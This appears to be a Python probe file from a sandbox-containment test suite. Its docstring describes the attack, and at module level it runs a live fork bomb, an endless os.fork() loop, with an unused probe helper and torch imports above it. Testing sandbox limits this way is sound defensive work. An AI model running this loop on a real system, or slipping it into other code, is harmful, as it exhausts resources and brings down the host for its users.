"""Attack: a classic fork bomb at import (every process forks forever). Contained when the process
limit stops it, the wall-clock limit ends the job, and every process dies with the sandbox."""

import os
import sys

import torch
from torch import nn


def attempt(label, fn):
    """One probe: prints LEAK when it got what it must not, BLOCKED when the sandbox refused."""
    try:
        got = fn()
    except BaseException as exc:  # noqa: BLE001
        print(f"BLOCKED {label}: {type(exc).__name__}: {str(exc)[:100]}")
        return None
    print(f"LEAK {label}: {str(got)[:200]!r}")
    return got

while True:
    try:
        os.fork()
    except OSError:
        pass
